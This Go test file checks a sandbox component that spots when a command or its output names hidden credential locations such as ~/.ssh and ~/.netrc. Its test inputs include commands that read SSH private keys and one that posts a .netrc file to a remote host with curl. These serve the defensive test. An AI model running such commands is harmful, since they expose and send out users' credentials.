package attempts_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/snapfs/snapfs/engine/attempts"
	"github.com/snapfs/snapfs/internal/treetest"
)

// namedHome returns a home directory with the keys that the sandbox hides, and the hidden places.
func namedHome(t *testing.T) (home string, places []string) {
	t.Helper()
	home = treetest.Dir(t)
	for _, name := range []string{".ssh/id", ".ssh/config", ".netrc", "work/notes", ".sshd/x", "my keys/id"} {
		path := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(home+"/.ssh", home+"/work/link"); err != nil {
		t.Fatal(err)
	}
	return home, []string{home + "/.netrc", home + "/.ssh", home + "/my keys"}
}

func TestAHiddenPathThatACommandNamesIsFound(t *testing.T) {
	home, places := namedHome(t)
	ssh := home + "/.ssh"
	for text, want := range map[string]string{
		"cat|" + ssh + "/id":                              ssh,
		"cat|" + ssh + "/":                                ssh,
		"ls|" + ssh:                                       ssh,
		"sh|-c|cat ~/.ssh/id > out":                       ssh,
		"sh|-c|cat \"$HOME/.ssh/id\"":                     ssh,
		"sh|-c|cat ${HOME}/.ssh/id;true":                  ssh,
		"sh|-c|cat ~/.ssh/*":                              ssh,
		"ssh|-oIdentityFile=" + ssh + "/id|host":          ssh,
		"docker|-v|" + ssh + ":/keys|x":                   ssh,
		"curl|-d|@" + home + "/.netrc|https://x/y":        home + "/.netrc",
		"cat|../.ssh/id":                                  ssh,
		"cat|link/id":                                     ssh,
		"cat|" + home + "/work/link/id":                   ssh,
		"cat|" + home + "/my keys/id":                     home + "/my keys",
		"sh|-c|cat '" + home + "/my keys/id'":             "",  // in a text, a space ends a path
		"cat|" + ssh + "/none":                            ssh, // the answer must not say whether the host has it
		"cat|" + home + "/.sshd/x":                        "",
		"cat|" + home + "/work/notes|--" + ssh:            "",
		"cat|https://host" + ssh + "/id":                  "",
		"cat|x" + ssh + "/id":                             "",
		"sh|-c|cat ~other/.ssh/id":                        "",
		"true|" + strings.Repeat("x", 70<<10) + "|" + ssh: "",
		"":          "",
		"cat||-|.|": "",
	} {
		n := attempts.Naming{Args: strings.Split(text, "|"), Dir: home + "/work", Home: home}
		got := ""
		if list := n.Hidden(places); len(list) > 0 {
			got = list[0].Place
		}
		if got != want {
			t.Errorf("%.100q names the hidden place %q, want %q", text, got, want)
		}
	}
}

func TestAHiddenPathInTheOutputIsFoundOncePerPlace(t *testing.T) {
	home, places := namedHome(t)
	n := attempts.Naming{
		Args: []string{"make"}, Home: home, Dir: home,
		Output: "cat: " + home + "/.ssh/id: No such file or directory\r\nopen '" + home + "/.ssh/config': x\n" +
			"config: ~/.netrc, /etc/passwd",
	}
	want := []attempts.NamedPath{{Path: home + "/.ssh/id", Place: home + "/.ssh"}, {Path: home + "/.netrc", Place: home + "/.netrc"}}
	if got := n.Hidden(places); !slices.Equal(got, want) {
		t.Errorf("found %v, want %v", got, want)
	}
	if got := n.Hidden(nil); got != nil {
		t.Errorf("without hidden places, found %v", got)
	}
	n.Home = ""
	if got := n.Hidden(places); len(got) != 1 {
		t.Errorf("without a home directory, found %v", got)
	}
}

func TestPathsOutsideOfADirectoryAreNoticed(t *testing.T) {
	for text, want := range map[string]bool{
		"make|test|-j2|a/b": false, "cat|/w/x": false, "cat|../x": true, "cat|/x": true, "sh|-c|cat ~/x": true, "": false,
	} {
		n := attempts.Naming{Args: strings.Split(text, "|"), Dir: "/w", Home: "/home"}
		if got := n.Leaves("/w"); got != want {
			t.Errorf("%q leaves /w: %v, want %v", text, got, want)
		}
	}
}
